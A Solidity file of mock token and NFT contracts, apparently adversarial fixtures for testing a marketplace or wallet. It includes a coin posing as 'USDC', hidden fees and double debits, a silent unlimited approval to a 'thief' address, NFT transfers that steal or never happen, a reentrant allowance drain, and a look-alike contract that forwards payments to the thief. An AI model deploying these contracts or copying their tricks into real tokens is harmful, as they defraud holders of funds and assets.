// SPDX-License-Identifier: UNLICENSED
pragma solidity 0.8.37;

/// A coin that is honest as long as nothing below changes it.
contract PlainCoin {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    mapping(address account => uint256) public balanceOf;
    mapping(address account => mapping(address spender => uint256)) public allowance;
    address internal immutable thief;

    constructor(address thief_) {
        thief = thief_;
    }

    function decimals() external view virtual returns (uint8) {
        return 18;
    }

    function symbol() external pure returns (string memory) {
        return "USDC";
    }

    function mint(address[] calldata accounts, uint256 amount) external {
        for (uint256 i; i < accounts.length; ++i) balanceOf[accounts[i]] += amount;
    }

    function approve(address spender, uint256 value) external virtual returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external virtual returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Logs what is left of an allowance whenever it is used.
contract TalkativeCoin is PlainCoin {
    constructor(address thief_) PlainCoin(thief_) {}

    function transferFrom(address from, address to, uint256 value) external override returns (bool) {
        allowance[from][msg.sender] -= value;
        emit Approval(from, msg.sender, allowance[from][msg.sender]);
        _move(from, to, value);
        return true;
    }
}

/// Takes 1 % of what is moved, and says so.
contract FeeCoin is PlainCoin {
    constructor(address thief_) PlainCoin(thief_) {}

    function _move(address from, address to, uint256 value) internal override {
        super._move(from, to, value - value / 100);
        super._move(from, thief, value / 100);
    }
}

/// Takes twice what its logs say.
contract SilentCoin is PlainCoin {
    constructor(address thief_) PlainCoin(thief_) {}

    function _move(address from, address to, uint256 value) internal override {
        super._move(from, to, value);
        balanceOf[from] -= value;
        balanceOf[thief] += value;
    }
}

/// Its approval gives the thief one as well.
contract GreedyCoin is PlainCoin {
    constructor(address thief_) PlainCoin(thief_) {}

    function approve(address spender, uint256 value) external override returns (bool) {
        allowance[msg.sender][spender] = value;
        allowance[msg.sender][thief] = type(uint256).max;
        emit Approval(msg.sender, spender, value);
        emit Approval(msg.sender, thief, type(uint256).max);
        return true;
    }
}

/// A collection that is honest as long as nothing below changes it.
contract PlainCollection {
    event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);

    address internal immutable thief;
    mapping(uint256 tokenId => address) public ownerOf;
    mapping(address account => uint256) public balanceOf;
    mapping(address account => mapping(address operator => bool)) public isApprovedForAll;

    constructor(address thief_) {
        thief = thief_;
    }

    function supportsInterface(bytes4 id) external pure returns (bool) {
        return id == 0x01ffc9a7 || id == 0x80ac58cd;
    }

    function mint(address[] calldata accounts, uint256[] calldata ids) external {
        for (uint256 i; i < ids.length; ++i) {
            ownerOf[ids[i]] = accounts[i];
            balanceOf[accounts[i]] += 1;
        }
    }

    function setApprovalForAll(address operator, bool approved) external {
        isApprovedForAll[msg.sender][operator] = approved;
    }

    function safeTransferFrom(address from, address to, uint256 id) external {
        require(ownerOf[id] == from && (msg.sender == from || isApprovedForAll[from][msg.sender]));
        _give(from, to, id);
    }

    function _move(address from, address to, uint256 id) internal {
        balanceOf[from] -= 1;
        balanceOf[to] += 1;
        ownerOf[id] = to;
        emit Transfer(from, to, id);
    }

    function _give(address from, address to, uint256 id) internal virtual {
        _move(from, to, id);
    }
}

/// Whoever gets a token loses the next one.
contract HookCollection is PlainCollection {
    constructor(address thief_) PlainCollection(thief_) {}

    function _give(address from, address to, uint256 id) internal override {
        _move(from, to, id);
        if (ownerOf[id + 1] == to) _move(to, thief, id + 1);
    }
}

/// The same without a log.
contract SilentCollection is PlainCollection {
    constructor(address thief_) PlainCollection(thief_) {}

    function _give(address from, address to, uint256 id) internal override {
        _move(from, to, id);
        if (ownerOf[id + 1] != to) return;
        ownerOf[id + 1] = thief;
        balanceOf[to] -= 1;
        balanceOf[thief] += 1;
    }
}

/// Logs a transfer and makes none.
contract PaperCollection is PlainCollection {
    constructor(address thief_) PlainCollection(thief_) {}

    function _give(address from, address to, uint256 id) internal override {
        emit Transfer(from, to, id);
    }
}

/// Lets one account alone have its tokens: if that is who tries purchases, they can all be bought.
contract ChoosyCollection is PlainCollection {
    constructor(address thief_) PlainCollection(thief_) {}

    function _give(address from, address to, uint256 id) internal override {
        require(to == thief);
        _move(from, to, id);
    }
}

interface ICoin {
    function allowance(address account, address spender) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// In the middle of its transfer, takes whatever coins its receiver had once allowed it.
contract ReentrantCollection is PlainCollection {
    ICoin private immutable _coin;

    constructor(address thief_, address coin) PlainCollection(thief_) {
        _coin = ICoin(coin);
    }

    function _give(address from, address to, uint256 id) internal override {
        _move(from, to, id);
        uint256 allowed = _coin.allowance(to, address(this));
        if (allowed > 0) _coin.transferFrom(to, thief, allowed);
    }
}

/// Has the functions of order books, takes the payment, and gives nothing: a look-alike. What is called through it by
/// `delegatecall` takes what it can reach.
contract LookAlike {
    address private immutable _thief;

    constructor(address thief_) {
        _thief = thief_;
    }

    fallback() external payable {
        (bool done,) = _thief.call{value: address(this).balance}("");
        require(done);
    }
}

/// Passes every call on, with what was sent along: as a proxy does.
contract Forwarder {
    address private immutable _target;

    constructor(address target) {
        _target = target;
    }

    fallback() external payable {
        (bool done,) = _target.delegatecall(msg.data);
        require(done);
    }
}
